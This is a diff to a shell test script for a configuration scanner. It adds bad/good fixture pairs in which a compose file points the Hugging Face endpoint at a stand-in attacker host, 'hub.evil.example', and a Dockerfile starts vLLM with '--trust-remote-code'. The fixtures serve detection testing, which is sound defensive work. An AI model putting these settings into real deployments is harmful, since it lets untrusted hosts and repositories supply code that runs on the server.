@@ -40,6 +40,13 @@ says "it says which" 'outside\.yml, which cannot be read'
 printf 'services: {a: {image: "vllm/vllm-openai:v1", command: "--model acme/llama --trust-remote-code"}}\n' >bad/compose.yaml
 printf 'services: {a: {image: "vllm/vllm-openai:v1", command: "--model acme/llama"}}\n' >good/compose.yaml
 twin "compose: a server that runs a repository's code" compose.yaml 'source\.trust-remote-code'
+printf 'services: {a: {image: "debian:12", command: "sh -c \x27export HF_ENDPOINT=https://hub.evil.example; vllm serve acme/llama\x27"}}\n' >bad/compose.yaml
+printf 'services: {a: {image: "debian:12", command: "sh -c \x27export HF_HUB_OFFLINE=1; vllm serve acme/llama\x27"}}\n' >good/compose.yaml
+twin "compose: a script that sends names elsewhere" compose.yaml 'hub\.evil\.example'
+printf 'FROM debian:12\nENTRYPOINT ["vllm", "serve"]\nCMD ["acme/llama", "--trust-remote-code"]\n' >bad/Dockerfile
+printf 'FROM debian:12\nENTRYPOINT ["vllm", "serve"]\nCMD ["acme/llama"]\n' >good/Dockerfile
+twin "Dockerfile: a server that it starts runs a repository's code" Dockerfile 'source\.trust-remote-code'
+rm {bad,good}/Dockerfile
 
 # --- workflows, pipelines
 mkdir -p {bad,good}/.github/workflows
